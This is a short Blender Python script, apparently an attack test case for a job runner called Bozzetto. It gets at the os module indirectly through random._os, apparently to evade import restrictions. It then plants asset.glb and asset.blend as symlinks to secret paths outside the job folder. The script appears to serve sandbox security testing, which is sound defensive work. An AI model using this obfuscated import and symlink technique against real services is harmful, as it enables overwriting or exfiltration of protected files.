# attack: asset.glb and asset.blend of the job's folder are links to files outside before Bozzetto writes them
# family: reports
import bpy
import random
from operator import attrgetter

os, = [get(random) for get in map(attrgetter, ["_os"])]
system = os.sys
arguments = list(system.argv)
folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.symlink("$SECRET_DIR/b-reports-06.glb", folder + "/asset.glb")
os.symlink("$SECRET_FILE", folder + "/asset.blend")
